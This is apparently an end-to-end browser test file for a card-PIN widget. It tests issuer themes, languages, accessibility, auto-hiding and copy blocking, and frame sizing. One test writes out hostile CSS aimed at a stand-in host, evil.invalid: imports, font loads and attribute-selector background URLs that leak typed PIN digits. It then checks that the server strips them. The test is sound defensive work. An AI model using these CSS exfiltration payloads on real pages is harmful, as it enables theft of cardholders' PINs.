// Themes, languages, accessibility, cardholder safety and sizing, end to end against the running
// binary in headless Chromium: issuer themes change the documented elements and hostile ones load
// nothing from outside; axe-core finds no violation in any language; every language renders from
// its catalogue; the PIN hides itself; the frame follows the content's height. It also takes the
// the book's screenshots of the themes (docs/screenshots/).
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join, resolve } from "node:path";
import { DEMO, issueToken, serverAndBrowser } from "./harness.mjs";

const root = resolve(import.meta.dirname, "../..");
const require = createRequire(join(root, "tools/package.json"));
const axeSource = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
const LANGS = ["en", "fi", "sv", "de", "ja", "ar"];
const RTL = new Set(["ar"]);

/// The catalogue of `lang`, as the widget compiles it in: key → text.
function catalogue(lang) {
  const entries = readFileSync(join(root, "locales", `${lang}.ftl`), "utf8")
    .split("\n")
    .filter((line) => line.includes(" = ") && !line.trimStart().startsWith("#"))
    .map((line) => line.split(" = ").map((part) => part.trim()));
  return Object.fromEntries(entries);
}

const running = serverAndBrowser();

const basicAuth = `Basic ${Buffer.from(`${DEMO.clientId}:${DEMO.clientSecret}`).toString("base64")}`;

async function putTheme(css) {
  const response = await fetch(`${running.server.url}/api/v1/issuers/${DEMO.issuer}/theme`, {
    method: "PUT",
    headers: { authorization: basicAuth, "content-type": "text/css" },
    body: css,
  });
  return { status: response.status, body: await response.json() };
}

async function deleteTheme() {
  const response = await fetch(`${running.server.url}/api/v1/issuers/${DEMO.issuer}/theme`, {
    method: "DELETE",
    headers: { authorization: basicAuth },
  });
  assert.equal(response.status, 204);
}

/// A fresh context and page that records every request it makes.
async function openPage(options = {}) {
  const context = await running.browser.newContext({ viewport: { width: 480, height: 640 }, ...options });
  const page = await context.newPage();
  const requests = [];
  page.on("request", (r) => requests.push(r.url()));
  return { context, page, requests };
}

/// Opens a widget page top-level, as a webview does, for a fresh token.
async function openWidget(page, body = {}) {
  const { url } = await issueToken(running.server.url, body);
  await page.goto(url);
  const ready = body.action === "SET_PIN" ? "#pinframe-new-pin" : ".pinframe-pin";
  await page.locator(ready).waitFor();
  return url;
}

const style = (page, selector, property) =>
  page.locator(selector).first().evaluate((el, p) => getComputedStyle(el).getPropertyValue(p), property);

describe("issuer themes", () => {
  test("a theme changes the computed style of the documented elements", async () => {
    const { status, body } = await putTheme(
      ":root { --pinframe-accent: #6a1b9a; --pinframe-radius: 3px }\n" +
        ".pinframe-title { color: rgb(106, 27, 154); font-size: 30px; text-transform: uppercase }\n" +
        ".pinframe-digit { background-color: #fff3e0 }",
    );
    assert.equal(status, 200);
    assert.deepEqual(body.dropped, []);
    const { context, page } = await openPage();
    await openWidget(page);
    assert.equal(await style(page, ".pinframe-title", "color"), "rgb(106, 27, 154)");
    assert.equal(await style(page, ".pinframe-title", "font-size"), "30px");
    assert.equal(await style(page, ".pinframe-title", "text-transform"), "uppercase");
    assert.equal(await style(page, ".pinframe-digit", "border-top-left-radius"), "3px");
    assert.equal(await style(page, ".pinframe-digit", "background-color"), "rgb(255, 243, 224)");
    // The variable reaches what the default theme draws with it.
    assert.equal(await style(page, ".pinframe-reveal", "border-top-color"), "rgb(106, 27, 154)");
    await context.close();

    await deleteTheme();
    const fresh = await openPage();
    await openWidget(fresh.page);
    assert.equal(await style(fresh.page, ".pinframe-title", "color"), "rgb(27, 31, 36)");
    await fresh.context.close();
  });

  test("hostile themes are stripped and nothing outside the origin is fetched", async () => {
    const evil = "http://evil.invalid";
    const hostile = [
      `@import url(${evil}/import.css);`,
      `@import "${evil}/import2.css";`,
      `@font-face { font-family: Leak; src: url(${evil}/font.woff2) }`,
      `.pinframe-input[value^="1"] { background-image: url(${evil}/1) }`,
      `.pinframe-field:has(.pinframe-input[value$="4"]) { background: url(${evil}/has) }`,
      `.pinframe-title { color: expression(alert(1)); background: url(${evil}/bg.png); font-family: Leak }`,
      `input { border: 1px solid red }`,
      `.pinframe-title { color: rgb(1, 2, 3); --pinframe-x: image-set("${evil}/set.png" 1x) }`,
      `.pinframe-hint { -webkit-mask: url(${evil}/mask.svg); behavior: url(${evil}/x.htc) }`,
    ].join("\n");
    const { status, body } = await putTheme(hostile);
    assert.equal(status, 200);
    assert.equal(body.dropped.length, 11, JSON.stringify(body.dropped));
    const served = await (await fetch(body.url)).text();
    assert.equal(served, ".pinframe-title{font-family:Leak}\n.pinframe-title{color:rgb(1, 2, 3)}\n");

    // Oversized: refused whole.
    const big = await putTheme(`.pinframe { color: red }\n/*${"x".repeat(40_000)}*/`);
    assert.equal(big.status, 413);

    // Set page: type PINs into the inputs the attribute selectors aimed at; view page too.
    const { context, page, requests } = await openPage();
    await openWidget(page, { action: "SET_PIN" });
    await page.locator("#pinframe-new-pin").pressSequentially("1234");
    await page.locator("#pinframe-confirm-pin").pressSequentially("1234");
    await page.locator(".pinframe-title").hover();
    assert.equal(await style(page, ".pinframe-title", "color"), "rgb(1, 2, 3)");
    await openWidget(page);
    await page.waitForLoadState("networkidle");
    const outside = requests.filter((url) => !url.startsWith(running.server.url) && !url.startsWith("data:"));
    assert.deepEqual(outside, []);
    assert.ok(requests.some((url) => url.includes("/pin/themes/")), "the theme itself was loaded");
    await context.close();
    await deleteTheme();
  });
});

describe("languages and accessibility", () => {
  for (const lang of LANGS) {
    test(`${lang}: both pages render from the catalogue, and axe-core finds no violation`, async () => {
      const messages = catalogue(lang);
      const keys = new Set(Object.keys(catalogue("en")));
      // A context that lets the test inject axe-core past the page's CSP.
      const { context, page } = await openPage({ bypassCSP: true });
      const check = async (what) => {
        assert.equal(await page.getAttribute("html", "lang"), lang);
        assert.equal(await page.getAttribute("html", "dir"), RTL.has(lang) ? "rtl" : "ltr");
        assert.equal(await page.title(), messages["page-title"]);
        const text = await page.locator("main").innerText();
        const raw = text.split(/\s+/).filter((word) => keys.has(word));
        assert.deepEqual(raw, [], `${what}: message keys on screen instead of text`);
        await page.addScriptTag({ content: axeSource });
        const result = await page.evaluate(() =>
          window.axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"] }),
        );
        const violations = result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(", ")}`);
        assert.deepEqual(violations, [], `${lang} ${what}`);
      };

      await openWidget(page, { language: lang });
      assert.equal(await page.locator("h1").textContent(), messages["view-heading"]);
      assert.equal(await page.locator(".pinframe-reveal").textContent(), messages["hide-pin"]);
      await check("view");

      await openWidget(page, { action: "SET_PIN", language: lang });
      assert.equal(await page.locator("h1").textContent(), messages["set-heading"]);
      assert.equal(await page.locator('label[for="pinframe-new-pin"]').textContent(), messages["new-pin-label"]);
      // The new PIN field has the focus when the form appears.
      assert.equal(await page.evaluate(() => document.activeElement?.id), "pinframe-new-pin");
      await check("set");
      // With messages showing: each tied to its field.
      await page.locator("#pinframe-new-pin").pressSequentially("1234");
      await page.locator("#pinframe-confirm-pin").pressSequentially("12");
      const message = page.locator("#pinframe-new-pin-message");
      assert.equal(await message.textContent(), messages["policy-sequential"]);
      assert.equal(await page.getAttribute("#pinframe-new-pin", "aria-describedby"), "pinframe-new-pin-message");
      assert.equal(await page.getAttribute("#pinframe-new-pin", "aria-invalid"), "true");
      await check("set, with a message");
      await context.close();
    });
  }

  test("without a language in the token, the browser's is used; the token's wins over it", async () => {
    const { context, page } = await openPage({ locale: "sv-SE" });
    await openWidget(page);
    assert.equal(await page.getAttribute("html", "lang"), "sv");
    assert.equal(await page.locator("h1").textContent(), catalogue("sv")["view-heading"]);
    // A URL without the query's lang: the session's language takes over once it is known.
    // (A new page: the same path with another fragment would not load the page again.)
    const { url } = await issueToken(running.server.url, { language: "de" });
    await page.close();
    const again = await context.newPage();
    await again.goto(url.replace("?lang=de", ""));
    await again.locator(".pinframe-pin").waitFor();
    await again.waitForFunction(() => document.documentElement.lang === "de");
    assert.equal(await again.locator("h1").textContent(), catalogue("de")["view-heading"]);
    await context.close();
  });


  test("the PIN is announced digit by digit and the reveal control works by keyboard", async () => {
    const { context, page } = await openPage();
    await openWidget(page);
    const live = page.locator(".pinframe-sr-only[aria-live]");
    await page.waitForFunction(() => document.querySelector(".pinframe-sr-only").textContent.length > 0);
    assert.equal(await live.textContent(), "Your PIN is 2 4 6 8");
    assert.equal(await page.getAttribute(".pinframe-pin", "aria-hidden"), "true");
    // Tab reaches the reveal control; Enter hides the PIN, with visible focus.
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement?.className), "pinframe-toggle pinframe-reveal");
    assert.notEqual(await style(page, ".pinframe-reveal", "outline-style"), "none");
    await page.keyboard.press("Enter");
    assert.equal(await page.locator(".pinframe-pin").textContent(), "••••");
    assert.equal(await live.textContent(), "Your PIN is hidden.");
    await page.keyboard.press("Enter");
    assert.equal(await page.locator(".pinframe-pin").textContent(), DEMO.pin);

    // Right-to-left ready: with dir="rtl" (what a right-to-left language sets) the layout mirrors.
    const edges = () =>
      page.evaluate(() => {
        const main = document.querySelector("main").getBoundingClientRect();
        const button = document.querySelector(".pinframe-reveal").getBoundingClientRect();
        const title = document.querySelector(".pinframe-title").getBoundingClientRect();
        return { left: button.left - main.left, right: main.right - button.right, titleRight: main.right - title.right };
      });
    const ltr = await edges();
    await page.evaluate(() => document.documentElement.setAttribute("dir", "rtl"));
    const rtl = await edges();
    assert.ok(ltr.left < ltr.right, JSON.stringify(ltr));
    assert.ok(rtl.right < rtl.left, JSON.stringify(rtl));
    assert.ok(Math.abs(rtl.right - ltr.left) < 1, "the same inset, on the other side");
    await context.close();
  });
});

describe("cardholder safety", () => {
  test("the PIN hides itself after the issuer's time, and the reveal control shows it again", async () => {
    const { context, page } = await openPage();
    await openWidget(page, { hideAfterSeconds: 1 });
    assert.equal(await page.locator(".pinframe-pin").textContent(), DEMO.pin);
    assert.match(await page.locator(".pinframe-auto-hide").textContent(), /after 1 seconds/);
    await page.locator('.pinframe-pin[data-revealed="false"]').waitFor({ timeout: 5000 });
    assert.equal(await page.locator(".pinframe-pin").textContent(), "••••");
    await page.locator(".pinframe-reveal").click();
    assert.equal(await page.locator(".pinframe-pin").textContent(), DEMO.pin);
    await page.locator('.pinframe-pin[data-revealed="false"]').waitFor({ timeout: 5000 });
    await context.close();
  });

  test("the PIN hides when the page is hidden, and set-PIN digits go back to dots", async () => {
    const hide = () => {
      Object.defineProperty(document, "hidden", { configurable: true, get: () => true });
      Object.defineProperty(document, "visibilityState", { configurable: true, get: () => "hidden" });
      document.dispatchEvent(new Event("visibilitychange"));
    };
    const { context, page } = await openPage();
    await openWidget(page);
    assert.equal(await page.locator(".pinframe-pin").textContent(), DEMO.pin);
    await page.evaluate(hide);
    await page.locator('.pinframe-pin[data-revealed="false"]').waitFor();
    assert.equal(await page.locator(".pinframe-pin").textContent(), "••••");

    await openWidget(page, { action: "SET_PIN" });
    await page.locator(".pinframe-toggle").click();
    assert.equal(await page.getAttribute("#pinframe-new-pin", "type"), "text");
    await page.evaluate(hide);
    await page.waitForFunction(() => document.getElementById("pinframe-new-pin").type === "password");
    await context.close();
  });

  test("copying the PIN is blocked unless the issuer allows it", async () => {
    const copyPrevented = (page) =>
      page.evaluate(() => {
        const event = new ClipboardEvent("copy", { bubbles: true, cancelable: true });
        document.querySelector(".pinframe-digit").dispatchEvent(event);
        return event.defaultPrevented;
      });
    const { context, page } = await openPage();
    await openWidget(page);
    assert.equal(await copyPrevented(page), true);
    assert.equal(await page.locator(".pinframe-copy").count(), 0);
    assert.equal(await style(page, ".pinframe-pin", "user-select"), "none");
    await context.close();

    const allowed = await openPage({ permissions: ["clipboard-read", "clipboard-write"] });
    await openWidget(allowed.page, { allowCopy: true });
    assert.equal(await copyPrevented(allowed.page), false);
    await allowed.page.locator(".pinframe-copy").click();
    await allowed.page.locator(".pinframe-copy-status", { hasText: "PIN copied." }).waitFor();
    assert.equal(await allowed.page.evaluate(() => navigator.clipboard.readText()), DEMO.pin);
    await allowed.context.close();
  });
});

describe("sizing", () => {
  test("resize events carry the content height and the host kit fits the frame to it", async () => {
    const { context, page } = await openPage({ viewport: { width: 1000, height: 900 } });
    await page.addInitScript(() => {
      window.__resizes = [];
      window.addEventListener("message", (e) => {
        if (e.data?.event === "resize") window.__resizes.push(e.data.height);
      });
    });
    await page.goto(`${running.server.url}/demo/`);
    await page.click("#set-pin");
    const frame = page.frameLocator("iframe");
    await frame.locator("#pinframe-new-pin").waitFor();
    const fits = async () => {
      const content = await frame.locator("body").evaluate((b) => Math.ceil(b.getBoundingClientRect().height));
      await page.waitForFunction((h) => document.querySelector("iframe").style.height === `${h}px`, content);
      return content;
    };
    const before = await fits();
    assert.equal((await page.evaluate(() => window.__resizes)).at(-1), before);
    // A narrow window (a phone, a side panel): the text wraps, the content grows, a new event
    // comes, and the frame follows.
    await page.setViewportSize({ width: 340, height: 900 });
    await page.waitForFunction((h) => window.__resizes.at(-1) > h, before);
    const taller = await fits();
    assert.ok(taller > before, `${taller} > ${before}`);
    assert.equal((await page.evaluate(() => window.__resizes)).at(-1), taller);
    // No scroll bar inside the frame.
    assert.equal(await frame.locator("html").evaluate((h) => h.scrollHeight <= h.clientHeight), true);
    await context.close();
  });
});

describe("screenshots for the book", () => {
  test("the default and the Harbour theme, in English and Finnish", async () => {
    const dir = join(root, "docs/screenshots");
    mkdirSync(dir, { recursive: true });
    const harbour = readFileSync(join(root, "crates/pinframe/demo/themes/harbour.css"), "utf8");
    for (const theme of ["default", "harbour"]) {
      if (theme === "default") await deleteTheme();
      else assert.equal((await putTheme(harbour)).status, 200);
      for (const lang of ["en", "fi"]) {
        const { context, page } = await openPage({ viewport: { width: 420, height: 360 }, reducedMotion: "reduce" });
        await openWidget(page, { language: lang });
        await page.waitForFunction(() => document.querySelector(".pinframe-sr-only").textContent.length > 0);
        await page.screenshot({ path: join(dir, `${theme}-${lang}.png`) });
        await context.close();
      }
    }
    await deleteTheme();
  });
});
